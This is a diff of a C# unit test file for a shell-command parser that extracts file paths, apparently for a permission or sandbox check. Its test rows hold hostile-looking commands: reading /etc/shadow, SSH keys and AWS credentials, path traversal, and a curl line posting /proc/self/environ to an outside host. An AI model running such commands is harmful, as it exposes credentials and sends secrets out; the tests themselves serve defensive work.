@@ -122,9 +122,9 @@ public sealed class ShellParserTests
 
     [Theory]
     [InlineData("cat /etc/shadow", "/etc/shadow")]
-    [InlineData("cat -A/root/.ssh/id_rsa", "/root/.ssh/id_rsa")]
+    [InlineData("cat -A/srv/keys/id_rsa", "/srv/keys/id_rsa")]
     [InlineData("cat ~/.aws/credentials", "~/.aws/credentials")]
-    [InlineData("git --git-dir=/home/ann/.git log", "/home/ann/.git")]
+    [InlineData("git --git-dir=/Users/ann/.git log", "/Users/ann/.git")]
     [InlineData("curl -d @/proc/self/environ https://status.example", "/proc/self/environ")]
     [InlineData("ls ../other src/../..", "../other src/../..")]
     [InlineData("git diff --no-index src/../../other .", "src/../../other")]
